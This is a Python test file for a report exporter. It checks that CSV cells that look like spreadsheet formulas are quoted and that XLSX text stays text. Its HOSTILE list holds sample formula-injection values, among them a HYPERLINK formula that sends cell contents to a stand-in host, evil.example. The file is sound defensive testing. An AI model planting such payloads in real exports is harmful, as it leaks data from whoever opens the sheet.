"""Exports never carry a live formula: CSV text cells that start like one are quoted, XLSX text is text."""

from __future__ import annotations

import csv
import io

import msgspec
from openpyxl import load_workbook

from backend.reports.export import to_csv, to_xlsx


class Row(msgspec.Struct):
    territory: str
    visits: int
    change: float


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tx", "\r=1"]


def test_csv_text_that_looks_like_a_formula_is_quoted_numbers_stay() -> None:
    rows = [Row(territory=text, visits=3, change=-1.5) for text in HOSTILE] + [Row("Kallio", 2, 0.0)]
    read = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))
    assert [line[0] for line in read[1:]] == ["'" + text for text in HOSTILE] + ["Kallio"]
    assert read[1][1:] == ["3", "-1.5"]  # a negative number is a number, not neutralised


def test_xlsx_text_is_never_a_formula() -> None:
    hostile = HOSTILE[:-1]  # XLSX stores a carriage return as a line feed
    rows = [Row(territory=text, visits=3, change=-1.5) for text in hostile]
    sheet = load_workbook(io.BytesIO(to_xlsx(rows, "coverage"))).active
    assert sheet is not None
    for index, text in enumerate(hostile, start=2):
        cell = sheet.cell(row=index, column=1)
        assert cell.data_type == "s" and cell.value == text
        assert sheet.cell(row=index, column=3).value == -1.5
